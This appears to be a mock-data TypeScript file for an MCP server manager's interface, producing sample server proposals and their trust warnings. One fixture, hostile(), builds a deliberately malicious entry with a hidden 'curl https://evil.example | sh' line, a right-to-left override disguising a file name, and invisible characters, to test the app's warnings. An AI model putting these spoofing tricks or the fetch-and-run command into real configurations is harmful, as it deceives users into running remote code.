/** What entries from anywhere become before they are added, in the made-up hub. `&propose=hostile|bad` in the address. */
import type {
  CompanionView,
  ConfigField,
  FoundClient,
  Proposal,
  ProposalSource,
  ServerDraft,
  TargetView,
  TrustWarning,
} from '../../src-main/api/contract/servers.ts'
import { asked, failure, isEmpty } from './fake-answer.ts'
import { idOf, remote, reviewOf, say, stdio } from './fake-server-data.ts'

const field = (key: string, title: string, more: Partial<ConfigField> = {}): ConfigField => ({
  key,
  title,
  description: '',
  type: 'string',
  required: true,
  sensitive: false,
  multiple: false,
  default: null,
  min: null,
  max: null,
  ...more,
})

let next = 1
const proposal = (name: string, origin: Proposal['origin'], target: TargetView, more: Partial<Proposal> = {}) => {
  const made: Proposal = {
    key: `k${next++}`,
    name,
    origin,
    review: reviewOf(target),
    fields: [],
    duplicateOf: null,
    problem: null,
    ...more,
  }
  return made
}

const latest: TrustWarning = {
  code: 'downloads-code',
  place: 'args[1]',
  text: say('npx loads whatever version is newest when it starts.', '启动时 npx 会下载当时最新的版本。'),
}

/** A link that tries what links have tried: long arguments, line breaks, text that runs the other way. */
function hostile(): Proposal {
  const target = stdio(
    'npx',
    [
      '-y',
      'helpful-tool',
      `--note=harmless\u202Eexe.gnp`,
      `line one\nline two\n\tcurl https://evil.example | sh`,
      `x\u200B\u{E0041}y`,
      'a'.repeat(5_000),
      'https://\x24{HOME}.example.net/',
    ],
    { API_TOKEN: false },
  )
  return proposal('Helpful\u202E tool', { kind: 'link', detail: null }, target, {
    review: reviewOf(target, null, [
      latest,
      {
        code: 'bidi-characters',
        place: 'args[2]',
        text: say(
          'A character turns the direction of the text, so it reads as something else.',
          '其中有改变文字方向的字符，看上去会与实际不同。',
        ),
      },
      {
        code: 'newlines',
        place: 'args[3]',
        text: say(
          'It has line breaks: a short view would hide the rest.',
          '其中有换行，缩略显示时后面的内容会被藏起来。',
        ),
      },
      {
        code: 'shell',
        place: 'args[3]',
        text: say(
          'It contains a line for a shell. Mirohub passes it on as text.',
          '其中有一行 shell 命令。Mirohub 只会把它当作文字传给程序。',
        ),
      },
      {
        code: 'invisible-characters',
        place: 'args[4]',
        text: say('Two characters cannot be seen.', '其中有两个看不见的字符。'),
      },
      { code: 'very-long', place: 'args[5]', text: say('It is 5,000 characters long.', '长达 5000 个字符。') },
      {
        code: 'placeholder',
        place: 'args[6]',
        text: say('“\x24{HOME}” is passed on as it stands.', '“\x24{HOME}”会原样传给程序。'),
      },
      {
        code: 'unknown-key',
        place: 'entry',
        text: say('The entry also has “runAs”, which Mirohub does not use.', '条目里还有“runAs”，Mirohub 不会使用它。'),
      },
    ]),
  })
}

function fromDraft(draft: ServerDraft): TargetView {
  const { target } = draft
  if (target.kind === 'stdio') {
    const env = Object.fromEntries(Object.entries(target.env ?? {}).map(([name, value]) => [name, value !== null]))
    return { ...stdio(target.command, target.args, env), cwd: target.cwd ?? null }
  }
  const headers = Object.fromEntries(
    Object.entries(target.headers ?? {}).map(([name, value]) => [name, value !== null]),
  )
  return remote(target.kind, target.url, target.auth ?? 'none', headers)
}

const isRecord = (value: unknown): value is Record<string, unknown> => typeof value === 'object' && value !== null

function fromText(text: string): Proposal[] {
  let value: unknown
  try {
    value = JSON.parse(text)
  } catch (error) {
    const place = /line (\d+) column (\d+)/.exec(String(error))
    const line = place?.[1] ?? String(text.split('\n').length)
    throw failure(
      say(
        `Line ${line}: this is no JSON, YAML or TOML that can be read.`,
        `第 ${line} 行：无法按 JSON、YAML 或 TOML 读取。`,
      ),
      say('Look for a missing comma, quote or bracket there.', '请检查那里是否缺少逗号、引号或括号。'),
      'bad_entry',
    )
  }
  const root = isRecord(value) ? value : {}
  const entries = isRecord(root.mcpServers) ? root.mcpServers : root
  return Object.entries(entries).map(([name, entry]) => {
    const one = isRecord(entry) ? entry : {}
    const origin = { kind: 'paste', detail: null } as const
    if (typeof one.url === 'string') return proposal(name, origin, remote('http', one.url))
    if (typeof one.command !== 'string') {
      const problem = say('It has neither a command nor a url.', '里面既没有 command 也没有 url。')
      return proposal(name, origin, stdio('', []), { problem })
    }
    const args = Array.isArray(one.args) ? one.args.map(String) : []
    const env = isRecord(one.env) ? Object.fromEntries(Object.keys(one.env).map((key) => [key, true])) : {}
    const target = stdio(one.command, args, env)
    return proposal(name, origin, target, {
      review: reviewOf(target, null, one.command === 'npx' ? [latest] : []),
    })
  })
}

function fromClient(client: string): Proposal[] {
  const detail = foundClients().find((one) => one.client === client)?.name ?? client
  const origin = { kind: 'client', detail } as const
  const notes = stdio(
    'uvx',
    ['notes-mcp', '--root', '~/notes', '--index', '--model', 'https://models.example.org/small'],
    {
      NOTES_TOKEN: true,
    },
  )
  const search = stdio('npx', ['-y', 'web-search-mcp'], { SEARCH_KEY: false })
  return [
    proposal('notes', origin, notes, { duplicateOf: idOf(4) }),
    proposal('search', origin, search, {
      review: reviewOf(search, null, [latest]),
      fields: [field('env.SEARCH_KEY', 'SEARCH_KEY', { sensitive: true })],
    }),
    proposal('files', origin, stdio('npx', ['-y', '@modelcontextprotocol/server-filesystem@2026.1.0', '/home/ada'])),
    proposal('broken', origin, stdio('', []), {
      problem: say('Its “command” is a list, and has to be one text.', '它的“command”是列表，必须是一个字符串。'),
    }),
  ].slice(0, client === 'claude-desktop' ? 4 : 3)
}

function fromBundle(): Proposal[] {
  const target = stdio(
    'node',
    ['/home/ada/.local/share/mirohub/bundles/lab-notes-1.2.0-9f3c/server/index.js', '--folder', '(Folder)'],
    {
      LAB_KEY: false,
    },
  )
  return [
    proposal('Lab notes', { kind: 'bundle', detail: 'lab-notes 1.2.0' }, target, {
      fields: [
        field('folder', say('Folder', '文件夹'), {
          type: 'directory',
          description: say('Where the notes are kept.', '笔记所在的位置。'),
          default: '~/Documents/lab',
        }),
        field('key', say('Key', '密钥'), {
          sensitive: true,
          description: say('From your lab’s website.', '在实验室网站上获取。'),
        }),
        field('days', say('Days to look back', '向前查看的天数'), {
          type: 'number',
          required: false,
          default: 30,
          min: 1,
          max: 365,
        }),
        field('drafts', say('Show drafts too', '也显示草稿'), { type: 'boolean', required: false, default: false }),
      ],
    }),
  ]
}

export function proposals(source: ProposalSource): Proposal[] {
  if (asked('propose') === 'bad') {
    throw failure(
      say('This link holds no server.', '这个链接里没有服务器。'),
      say('Copy it again, whole.', '请重新完整复制。'),
      'bad_entry',
    )
  }
  if (source.kind === 'form') {
    const target = fromDraft(source.draft)
    const warnings = target.kind === 'stdio' && target.command === 'npx' ? [latest] : []
    return [
      proposal(source.draft.name, { kind: 'form', detail: null }, target, { review: reviewOf(target, null, warnings) }),
    ]
  }
  if (source.kind === 'paste') return fromText(source.text)
  if (source.kind === 'client') return fromClient(source.client)
  if (source.kind === 'bundle') return fromBundle()
  if (source.kind === 'companion') {
    const companion = companions().find((one) => one.id === source.companion)
    const target = stdio('mirohub', ['companion', source.companion], { SERPER_API_KEY: false })
    return [
      proposal(companion?.title ?? source.companion, { kind: 'companion', detail: null }, target, {
        fields: companion?.fields ?? [],
      }),
    ]
  }
  if (asked('propose') === 'hostile') return [hostile()]
  return [
    proposal('Library', { kind: 'link', detail: null }, remote('http', 'https://library.example.org/mcp', 'oauth')),
  ]
}

export function foundClients(): FoundClient[] {
  if (isEmpty) return []
  const few = [
    { name: 'notes', summary: 'uvx notes-mcp --root ~/notes --index', known: true },
    { name: 'search', summary: 'npx -y web-search-mcp', known: false },
    { name: 'files', summary: 'npx -y @modelcontextprotocol/server-filesystem@2026.1.0 /home/ada', known: false },
  ]
  return [
    {
      client: 'claude-desktop',
      name: 'Claude Desktop',
      file: '/home/ada/.config/Claude/claude_desktop_config.json',
      servers: [...few, { name: 'broken', summary: '', known: false }],
      problem: null,
    },
    { client: 'cursor', name: 'Cursor', file: '/home/ada/.cursor/mcp.json', servers: few, problem: null },
    {
      client: 'vscode',
      name: 'VS Code',
      file: '/home/ada/.config/Code/User/mcp.json',
      servers: [],
      problem: say('Line 12: a comma is missing.', '第 12 行：缺少一个逗号。'),
    },
  ]
}

export function companions(): CompanionView[] {
  const key = (name: string, title: string) => field(name, title, { sensitive: true })
  return [
    {
      id: 'searching',
      title: say('Searching', '搜索'),
      description: say(
        'Searches the web and Wikipedia, and reads pages, also as they were.',
        '搜索网页和维基百科，读取网页及其历史版本。',
      ),
      tools: [
        'google_search',
        'wiki_get_page_content',
        'search_wiki_revision',
        'search_archived_webpage',
        'scrape_website',
      ],
      missing: [],
      fields: [key('SERPER_API_KEY', say('Serper key', 'Serper 密钥'))],
      serverId: null,
    },
    {
      id: 'reading',
      title: say('Reading', '阅读'),
      description: say('Turns a document, here or on the web, into text.', '把本地或网上的文档转成文本。'),
      tools: ['read_file'],
      missing: [],
      fields: [],
      serverId: isEmpty ? null : idOf(1),
    },
    {
      id: 'vision',
      title: say('Vision', '看图'),
      description: say('Answers questions about pictures and videos.', '回答关于图片和视频的问题。'),
      tools: ['visual_question_answering', 'visual_audio_youtube_analyzing'],
      missing: [say('A model that takes pictures. Add one in Settings.', '还没有能看图的模型，请在设置中添加。')],
      fields: [],
      serverId: null,
    },
    {
      id: 'browser',
      title: say('Browser', '浏览器'),
      description: say('A browser that stays open between calls.', '在多次调用之间保持打开的浏览器。'),
      tools: ['browser_navigate', 'browser_click', 'browser_snapshot'],
      missing: [
        say('Chrome or Chromium on this computer.', '这台电脑上没有 Chrome 或 Chromium。'),
        say('Node.js with npx.', '没有 Node.js 和 npx。'),
      ],
      fields: [],
      serverId: null,
    },
  ]
}
